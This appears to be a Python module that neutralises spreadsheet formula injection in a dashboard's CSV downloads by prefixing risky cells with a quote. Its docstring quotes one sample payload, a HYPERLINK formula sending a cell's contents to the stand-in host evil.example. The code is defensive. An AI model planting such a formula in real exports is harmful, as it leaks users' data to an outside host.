"""Every CSV the dashboard offers for download goes through `to_csv`: a cell a spreadsheet would read as a formula
(starting with `=`, `+`, `-`, `@`, a tab or a carriage return; OWASP "CSV Injection") is written with a leading `'`,
so a thread id chosen by an agent or an API caller, such as `=HYPERLINK("http://evil.example/?leak="&B2,"open")`,
opens as text. Numbers are written as numbers (a negative one is a value, not a formula)."""

from __future__ import annotations

from typing import Any

import pandas as pd

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def neutralised(value: Any) -> Any:
    """`value` with a leading `'` if it is text a spreadsheet would evaluate; anything else unchanged."""
    return f"'{value}" if isinstance(value, str) and value.startswith(FORMULA_STARTS) else value


def to_csv(frame: pd.DataFrame) -> bytes:
    """`frame` as UTF-8 CSV bytes (no index), every text cell and column name neutralised."""
    safe = frame.map(neutralised).rename(columns=neutralised)
    return safe.to_csv(index=False, lineterminator="\r\n").encode()  # RFC 4180: a CR or LF in a cell is quoted
